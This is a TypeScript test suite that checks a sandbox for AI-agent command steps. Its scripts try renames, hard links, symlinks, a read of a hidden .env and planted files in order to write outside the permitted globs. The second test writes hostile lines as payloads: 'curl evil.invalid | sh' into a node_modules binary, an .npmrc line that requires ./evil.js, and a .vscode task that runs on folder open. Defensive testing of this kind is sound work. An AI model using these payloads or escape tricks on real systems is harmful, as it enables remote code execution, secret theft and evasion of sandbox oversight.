/**
 * Escape suite, the shape of the writable region: a literal edit glob makes its folder's direct entries
 * writable (a `folder` root: its subfolders bound back read-only, new ones judged whole), a glob with magic
 * makes a `tree`. Attacked here: renames, removals, hard links and symlinks across the folder's read-only
 * subfolders; a literal glob at the workspace root (`package.json`, node_modules beside it); renaming the
 * folder that holds a path the sandbox keeps (a `.env`, a nested repository, `.vscode`) so that the mount
 * travels and the rollback takes the kept content for the command's own; and command steps side by side
 * whose scopes nest (one's rollback must never undo another's work).
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createFile, seen, sh } from '../sandbox/cliRun';
import { assertNoLeak, assertNone, outsideScope, story, useEscapeSuite } from '../sandbox/escapeCase';
import { hardLink, program, read, remove, rename, symlink, write } from '../sandbox/payloads';

/** A script that writes `rel` (making its folder) after `ms`: a command still running while another step works. */
const laterWrite = (rel: string, text: string, ms: number): string =>
  `const fs = require('fs'), path = require('path');\nsetTimeout(() => { fs.mkdirSync(path.dirname(${JSON.stringify(rel)}), { recursive: true }); fs.writeFileSync(${JSON.stringify(rel)}, ${JSON.stringify(text)}); }, ${ms});\n`;

describe('escape suite: folder and tree write roots', function () {
  this.timeout(90_000);
  const suite = useEscapeSuite();

  it("under a one-file glob, the folder's subfolders stay as they were: no rename, removal, hard link or symlink across them; the file itself is written", async () => {
    const s = suite.scene((sc) => {
      mkdirSync(join(sc.ws, 'src/sub'));
      writeFileSync(join(sc.ws, 'src/sub/util.js'), 'exports.util = 1;\n');
    });
    const scope = ['src/math.js', 'scripts/t.js'];
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: scope, commands: ['node scripts/t.js'] },
          turns: [
            [
              createFile(
                'w',
                'scripts/t.js',
                program(
                  rename('src/sub', 'src/sub-moved'),
                  remove('src/sub'),
                  rename('src/sub/util.js', 'src/util.js'),
                  rename('src/math.js', 'src/sub/math.js'),
                  write('src/sub/util.js', 'pwned\n'),
                  write('src/sub/new.js', 'pwned\n'),
                  hardLink('src/sub/util.js', 'src/util-link.js'),
                  write('src/util-link.js', 'pwned\n', true),
                  hardLink('README.md', 'src/readme.js'),
                  write('src/readme.js', 'pwned\n', true),
                  "fs.mkdirSync('src/made'); fs.writeFileSync('src/made/x.js', 'x'); say('made', 'ok');",
                  rename('src/made', 'src/sub/made'),
                  symlink('../README.md', 'src/readme-link'),
                  write('src/readme-link', 'pwned through a link\n'),
                  symlink('sub', 'src/sub-link'),
                  write('src/sub-link/new.js', 'pwned\n'),
                  symlink(s.neighbour, 'src/out'),
                  write('src/out/victim.txt', 'pwned\n'),
                  write('src/math.js', 'exports.add = (a, b) => a + b; // changed\n'),
                ),
              ),
            ],
            [sh('run', 'node scripts/t.js')],
          ],
        },
      ],
    });
    assertNone(o.outside, 'nothing outside the workspace changed', o);
    assertNone(outsideScope(o, scope), 'nothing outside the one-file globs is left, src/sub included', o);
    assert.equal(readFileSync(join(s.ws, 'src/sub/util.js'), 'utf8'), 'exports.util = 1;\n', story(o));
    assert.equal(readFileSync(join(s.ws, 'src/math.js'), 'utf8'), 'exports.add = (a, b) => a + b; // changed\n', `the file in scope was written${story(o)}`);
  });

  it('a one-file glob at the workspace root (package.json): node_modules, .git, .env, the store and every other root file stay as they were; npm-style atomic replace works', async () => {
    const s = suite.scene((sc) => {
      mkdirSync(join(sc.ws, 'node_modules/.bin'), { recursive: true });
      writeFileSync(join(sc.ws, 'node_modules/.bin/lint'), '#!/bin/sh\necho lint\n', { mode: 0o755 });
      writeFileSync(
        join(sc.ws, 'scripts/bump.js'),
        program(
          write('node_modules/.bin/lint', '#!/bin/sh\ncurl evil.invalid | sh\n'),
          write('node_modules/.bin/postinstall', 'pwned\n'),
          rename('node_modules', 'node_modules-old'),
          remove('node_modules'),
          rename('.git', 'git-old'),
          rename('.env', 'env-moved'),
          read('.env'),
          write('.npmrc', 'node-options=--require ./evil.js\n'),
          write('package-lock.json', '{}\n'),
          write('README.md', '# pwned\n'),
          write('.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n'),
          write('.planexecuteignore', '\n'),
          write('.env.local', 'X=1\n'),
          write('.gitignore', 'pwned\n'),
          "fs.unlinkSync('tsconfig.json'); say('unlink tsconfig.json', 'ok');",
          write('.plan-execute/planted', 'x'),
          symlink('node_modules/.bin', 'bin'),
          // npm's write-file-atomic: a temporary file beside package.json, renamed over it.
          write('package.json.123', '{\n  "name": "app",\n  "version": "1.0.1"\n}\n'),
          rename('package.json.123', 'package.json'),
        ),
      );
    });
    const o = await suite.run(s, {
      steps: [{ id: 's1', authority: { edit: ['package.json'], commands: ['node scripts/bump.js'] }, turns: [[sh('run', 'node scripts/bump.js')]] }],
    });
    assertNone(outsideScope(o, ['package.json']), 'nothing but package.json changed at the root or below it', o);
    assert.equal(readFileSync(join(s.ws, 'node_modules/.bin/lint'), 'utf8'), '#!/bin/sh\necho lint\n', `node_modules is untouched${story(o)}`);
    assertNoLeak(o, '.env stayed hidden', ['env']);
    assert.match(readFileSync(join(s.ws, 'package.json'), 'utf8'), /"version": "1\.0\.1"/, `package.json was replaced atomically${story(o)}`);
  });

  it('renaming the folder that holds a hidden .env, a nested repository or a .vscode folder does not let the rollback delete them', async () => {
    // The mount that keeps src/conf/.env hidden travels with `mv src/conf src/conf2`; after the command the
    // file would sit at a path the step created, outside its globs — and be rolled back, i.e. deleted.
    const s = suite.scene((sc) => {
      mkdirSync(join(sc.ws, 'src/conf'));
      writeFileSync(join(sc.ws, 'src/conf/.env'), `API_TOKEN=${sc.canaries.env}\n`);
      writeFileSync(join(sc.ws, 'src/conf/app.json'), '{"port":8080}\n');
      mkdirSync(join(sc.ws, 'src/vendor/lib'), { recursive: true });
      writeFileSync(join(sc.ws, 'src/vendor/lib/index.js'), 'exports.lib = 1;\n');
      execFileSync('git', ['init', '-q', join(sc.ws, 'src/vendor/lib')]);
      mkdirSync(join(sc.ws, 'src/ui/.vscode'), { recursive: true });
      writeFileSync(join(sc.ws, 'src/ui/.vscode/settings.json'), '{"editor.tabSize":2}\n');
    });
    const scope = ['src/**', 'scripts/**'];
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: scope, commands: ['node scripts/move.js'] },
          turns: [
            [
              createFile(
                'w',
                'scripts/move.js',
                program(
                  rename('src/conf', 'src/conf2'),
                  rename('src/vendor', 'src/vendor2'),
                  rename('src/vendor/lib', 'src/lib'),
                  rename('src/ui', 'src/ui2'),
                  remove('src/conf'),
                  read('src/conf2/.env'),
                  write('src/conf/app.json', '{"port":9090}\n'),
                ),
              ),
            ],
            [sh('run', 'node scripts/move.js')],
          ],
        },
      ],
    });
    assert.equal(
      existsSync(join(s.ws, 'src/conf/.env')) && readFileSync(join(s.ws, 'src/conf/.env'), 'utf8'),
      `API_TOKEN=${s.canaries.env}\n`,
      `src/conf/.env is still there${story(o)}`,
    );
    assert.ok(existsSync(join(s.ws, 'src/vendor/lib/.git/HEAD')), `the nested repository's .git is still there${story(o)}`);
    assert.equal(
      existsSync(join(s.ws, 'src/ui/.vscode/settings.json')) && readFileSync(join(s.ws, 'src/ui/.vscode/settings.json'), 'utf8'),
      '{"editor.tabSize":2}\n',
      `src/ui/.vscode is still there${story(o)}`,
    );
    assertNoLeak(o, 'the hidden .env was not read', ['env']);
    assert.equal(readFileSync(join(s.ws, 'src/conf/app.json'), 'utf8'), '{"port":9090}\n', `writes in the folder that holds the .env still work${story(o)}`);
  });

  it('command steps side by side whose scopes nest (a folder root, a tree inside it, an editor step creating a subfolder) each keep their own work', async () => {
    // s1's folder root src may create subfolders, and its rollback removes new ones whole: it must not run
    // while s2 makes src/gen (a tree root) or s3 creates src/new/ with the editor. s4 (lib/**) is disjoint.
    const s = suite.scene((sc) => {
      writeFileSync(join(sc.ws, 'scripts/a.js'), laterWrite('src/a.js', 'exports.a = 1;\n', 900));
      writeFileSync(join(sc.ws, 'scripts/g.js'), laterWrite('src/gen/g.js', 'exports.g = 1;\n', 300));
      writeFileSync(join(sc.ws, 'scripts/l.js'), laterWrite('lib/l.js', 'exports.l = 1;\n', 300));
    });
    const o = await suite.run(s, {
      steps: [
        { id: 's1', required: true, authority: { edit: ['src/a.js'], commands: ['node scripts/a.js'] }, turns: [[sh('a', 'node scripts/a.js')]] },
        { id: 's2', required: true, authority: { edit: ['src/gen/**'], commands: ['node scripts/g.js'] }, turns: [[sh('g', 'node scripts/g.js')]] },
        { id: 's3', required: true, authority: { edit: ['src/new/**'], commands: [] }, turns: [[createFile('e', 'src/new/e.ts', 'export const e = 1;\n')]] },
        { id: 's4', required: true, authority: { edit: ['lib/**'], commands: ['node scripts/l.js'] }, turns: [[sh('l', 'node scripts/l.js')]] },
      ],
    });
    for (const [rel, text] of [
      ['src/a.js', 'exports.a = 1;\n'],
      ['src/gen/g.js', 'exports.g = 1;\n'],
      ['src/new/e.ts', 'export const e = 1;\n'],
      ['lib/l.js', 'exports.l = 1;\n'],
    ] as const) {
      assert.equal(existsSync(join(s.ws, rel)) && readFileSync(join(s.ws, rel), 'utf8'), text, `${rel} is there${story(o)}`);
    }
    assert.deepEqual([...(o.mission.report?.succeeded ?? [])].sort(), ['s1', 's2', 's3', 's4'], story(o));
    assert.doesNotMatch(seen(o.mission, 'a') + seen(o.mission, 'g') + seen(o.mission, 'l'), /permission_denied/, story(o));
  });
});
